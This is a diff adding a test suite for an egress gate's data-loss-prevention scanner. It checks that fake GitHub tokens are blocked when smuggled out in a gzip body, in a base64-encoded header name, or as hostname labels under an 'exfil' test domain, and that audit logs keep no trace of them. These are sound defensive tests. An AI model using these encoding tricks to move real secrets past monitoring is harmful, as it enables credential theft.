@@ -1,0 +1,65 @@
+import { afterAll, describe, expect, test } from "bun:test";
+import net from "node:net";
+import { gzipSync } from "node:zlib";
+import { fakeCredentials } from "../../unit/gate/dlp/fake-credentials.ts";
+import { blockReason, curl, startRecordingOrigin, startTestGate } from "./harness.ts";
+
+/**
+ * Issue 9, findings 5–7 through the real gate: what the scanner now sees reaches the
+ * handler (a gzip body, header names as sent), and the audit line of a blocked
+ * request with a case-sensitive secret in its hostname keeps none of it.
+ */
+
+const github = fakeCredentials(23)["github-token"] ?? "";
+
+/** Sends one raw request and returns the status line (curl lower-cases nothing, but
+ * it does normalise header names; a raw socket sends them exactly). */
+function rawRequest(port: number, text: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = net.connect(port, "127.0.0.1", () => socket.write(text));
+    let got = "";
+    socket.on("data", (chunk) => {
+      got += chunk.toString("latin1");
+      if (got.includes("\r\n")) {
+        socket.destroy();
+        resolve(got.slice(0, got.indexOf("\r\n")));
+      }
+    });
+    socket.on("error", reject);
+  });
+}
+
+describe("DLP hardening through the gate", async () => {
+  const origin = startRecordingOrigin();
+  const target = `http://app.gate.test:${origin.server.port}`;
+  const gate = await startTestGate({ allow: ["*.gate.test"], allow_cidrs: ["127.0.0.0/8"], dlp: { action: "block" } });
+  afterAll(async () => {
+    await gate[Symbol.asyncDispose]();
+    origin.server.stop(true);
+  });
+
+  test("a gzip Content-Encoding body carrying a token is refused", async () => {
+    const file = `${Bun.env.TMPDIR ?? "/tmp"}/gate-gzip-${process.pid}.bin`;
+    await Bun.write(file, gzipSync(Buffer.from(JSON.stringify({ note: `use ${github}` }))));
+    const result = await curl(["-x", gate.proxy, "-H", "content-encoding: gzip", "-H", "content-type: application/json", "--data-binary", `@${file}`, `${target}/upload`]);
+    expect(result.status).toBe(403);
+    expect(blockReason(result)).toBe("dlp:github-token");
+  });
+
+  test("a case-sensitive secret in a header name is refused (names are scanned as sent)", async () => {
+    const name = Buffer.from(github).toString("base64url");
+    const line = await rawRequest(gate.port, `GET ${target}/h HTTP/1.1\r\nHost: app.gate.test\r\n${name}: 1\r\nConnection: close\r\n\r\n`);
+    expect(line).toBe("HTTP/1.1 403 Forbidden");
+  });
+
+  test("the audit line of a blocked request keeps no base64 secret from its hostname", async () => {
+    // Labels short and few enough that, lower-cased (as `URL` does), nothing flags
+    // them: only the name with its case as sent decodes to the token.
+    const labels = Buffer.from(github).toString("base64url").replace(/(.{19})/g, "$1.");
+    const result = await curl(["-x", gate.proxy, `http://${labels}.exfil.gate.test:${origin.server.port}/x`]);
+    expect(result.status).toBe(403);
+    const lines = JSON.stringify(await gate.auditLines());
+    for (const piece of labels.split(".")) expect(lines).not.toContain(piece.slice(0, 12));
+    expect(lines.toLowerCase()).not.toContain(labels.split(".")[0]?.slice(0, 12).toLowerCase());
+  });
+});
